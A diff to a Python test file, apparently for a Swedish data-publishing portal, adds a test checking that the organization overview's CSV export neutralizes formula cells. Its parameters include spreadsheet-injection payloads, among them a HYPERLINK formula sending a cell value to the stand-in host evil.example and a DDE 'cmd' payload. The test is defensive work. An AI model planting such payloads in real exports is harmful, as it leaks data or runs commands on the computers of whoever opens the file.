@@ -116,3 +116,23 @@ def test_an_unknown_long_item_id_is_named_shortened(organization, editor):
         call("gbg_checklist_update", editor, id=dataset["id"], items=[{"id": "y" * 100000, "confirmed": True}])
     [message] = raised.value.error_dict["items"]
     assert len(message) < 200 and "y" * 64 + "…" in message
+
+
+# --- the overview's CSV -----------------------------------------------------------------
+
+
+@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?"&A1;"Klicka")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"])
+def test_the_overview_csv_never_starts_a_cell_with_a_formula(app, organization, editor, title):
+    model.User.get(editor["id"]).fullname = "=1+1"
+    model.repo.commit()
+    draft(editor, organization, title_translated={"sv": title, "en": title})
+    response = app.get(
+        f"/organization/{organization['name']}/publicering?format=csv", headers={"Authorization": editor["token"]}
+    )
+    import csv
+    import io
+
+    [header, row] = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
+    assert row[header.index("Titel")] == "'" + title
+    assert row[header.index("Ändrad av")] == "'=1+1"
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for cell in row)
